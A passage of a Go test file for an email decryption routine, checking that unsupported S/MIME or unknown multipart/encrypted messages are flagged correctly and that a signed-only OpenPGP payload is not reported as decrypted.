				t.Fatal("message not kept")
			}
			if res.Encrypted != c.encrypted || res.Decrypted {
				t.Errorf("Encrypted=%v Decrypted=%v", res.Encrypted, res.Decrypted)
			}
			if c.encrypted && res.DecryptErr == nil {
				t.Error("DecryptErr not set")
			}
		})
	}
}

func TestSMIMEUnsupported(t *testing.T) {
	for _, msg := range [][]byte{
		crlf("Subject: x\nContent-Type: application/pkcs7-mime; smime-type=enveloped-data; name=smime.p7m\nContent-Transfer-Encoding: base64\n\nMIAGCSqGSIb3DQEHA6CAMIACAQAx\n"),
		crlf("Subject: x\nContent-Type: multipart/encrypted; protocol=\"application/x-unknown\"; boundary=b\n\n--b\n\nx\n--b--\n"),
	} {
		res, _ := Process(msg, nil, nil, time.Now())
		if !res.Encrypted || res.Decrypted || !errors.Is(res.DecryptErr, ErrUnsupported) || !bytes.Equal(res.Message, msg) {
			t.Errorf("Encrypted=%v Decrypted=%v err=%v", res.Encrypted, res.Decrypted, res.DecryptErr)
		}
	}
}

func TestNotEncryptedPayload(t *testing.T) {
	// A multipart/encrypted whose "ciphertext" is a merely signed OpenPGP
	// message must not be reported as decrypted.
	alice := testKey(t, "alice@example.org")
	var b bytes.Buffer
	w, err := openpgp.Sign(&b, alice, nil, nil)
	if err != nil {
		t.Fatal(err)
	}
	w.Write(crlf("Content-Type: text/plain\n\nnot secret\n"))
	w.Close()
	var a bytes.Buffer
	aw, _ := armorEncode(&a)
	aw.Write(b.Bytes())
	aw.Close()
	msg := wrapEncrypted("Subject: x\n", a.Bytes())
	res, _ := Process(msg, list(alice), list(publicOnly(t, alice)), time.Now())
	if res.Decrypted || !errors.Is(res.DecryptErr, ErrNotEncrypted) || !bytes.Equal(res.Message, msg) {
		t.Errorf("Decrypted=%v err=%v", res.Decrypted, res.DecryptErr)
	}
}
